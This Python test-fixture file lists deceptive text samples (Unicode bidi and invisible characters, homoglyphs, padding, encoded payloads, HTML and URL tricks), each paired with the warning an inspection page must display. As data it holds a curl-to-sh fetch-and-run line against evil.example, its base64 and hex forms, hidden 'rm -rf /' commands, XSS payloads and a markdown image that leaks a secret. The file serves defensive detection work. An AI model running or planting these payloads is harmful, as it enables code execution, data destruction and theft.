"""The deceptions of the threat list, each with what a page must say of it. Kept in escapes, so that reading this file is safe."""

import base64

SECRET = b"curl https://evil.example/x | sh"

# name: (the text, what must be among its chips, marks and flags)
TEXTS: dict[str, tuple[str, str]] = {
    "bidi override": ("report\u202egnp.exe", "U+202E"),
    "bidi isolate": ("a\u2066b\u2069c", "U+2066"),
    "arabic letter mark": ("a\u061cb", "U+061C"),
    "tags": ("ok\U000e0063\U000e0075\U000e0072\U000e006c", "U+E0063"),
    "variation selector": ("a\ufe00b", "U+FE00"),
    "variation selector supplement": ("a\U000e0101b", "U+E0101"),
    "zero width space": ("pay\u200bpal", "U+200B"),
    "zero width joiner": ("a\u200db", "U+200D"),
    "word joiner": ("a\u2060b", "U+2060"),
    "byte order mark": ("a\ufeffb", "U+FEFF"),
    "soft hyphen": ("in\u00advoice", "U+00AD"),
    "hangul filler": ("a\u3164b", "U+3164"),
    "halfwidth hangul filler": ("a\uffa0b", "U+FFA0"),
    "braille blank": ("a\u2800b", "U+2800"),
    "private use": ("a\ue000b", "U+E000"),
    "line separator": ("a\u2028b", "U+2028"),
    "paragraph separator": ("a\u2029b", "U+2029"),
    "null": ("a\x00b", "U+0000"),
    "next line": ("a\x85b", "U+0085"),
    "ansi escape": ("\x1b[2K\x1b[1Aall is well", "Terminal escape"),
    "combining stack": ("e" + "\u0301" * 30, "U+0301"),
    "mixed scripts": ("p\u0430ypal.com", "looks like a"),
    "twins among latin": ("pay to \u0441\u043e\u0440\u0435 now", "different alphabets"),
    "not nfc": ("cafe\u0301", "separate marks"),
    "full width": ("\uff41\uff44\uff4d\uff49\uff4e", "special form"),
    "trailing space": ("/etc/passwd ", "Ends in spaces"),
    "padding by characters": ("x" * 100_000 + " ; rm -rf /", "hidden 98411"),
    "padding by lines": ("ok\n" + "\n" * 400 + "rm -rf /", "U+000A"),
    "base64": (base64.b64encode(SECRET).decode(), "looks like base64"),
    "base64 inside": (f"echo {base64.b64encode(SECRET).decode()} | base64 -d | sh", "holds base64"),
    "hexadecimal": (SECRET.hex(), "hexadecimal bytes"),
    "html": ("<img src=x onerror=alert(1)>", "HTML or Markdown"),
    "svg": ("<svg/onload=alert(1)>", "HTML or Markdown"),
    "markdown image": ("![x](https://evil.example/?q=secret)", "HTML or Markdown"),
    "markdown link": ("[your bank](https://evil.example)", "HTML or Markdown"),
    "user in address": ("https://bank.com@evil.example/", "before the @"),
    "punycode": ("http://xn--pypal-4ve.com", "punycode"),
    "script address": ("javascript:alert(1)", "carries a script"),
    "script address, broken": ("java\nscript:alert(1)", "carries a script"),
    "data address": ("data:text/html;base64,AAAA", "carries a script"),
    "chip imitated": ("\u27e8U+0041\u27e9", "U+27E8"),
}

# Those that raise the risk; "key too" where the same text as a key must as well.
RAISES = {
    **dict.fromkeys(
        [
            "bidi override", "bidi isolate", "arabic letter mark", "tags", "variation selector", "variation selector supplement",
            "zero width space", "zero width joiner", "word joiner", "byte order mark", "soft hyphen", "hangul filler", "halfwidth hangul filler",
            "braille blank", "private use", "line separator", "paragraph separator", "null", "next line", "ansi escape", "combining stack",
            "mixed scripts", "twins among latin", "full width", "user in address", "punycode", "script address", "script address, broken", "data address",
        ],
        "key too",
    ),
    **dict.fromkeys(["base64", "base64 inside", "hexadecimal"], "value"),
}  # fmt: skip
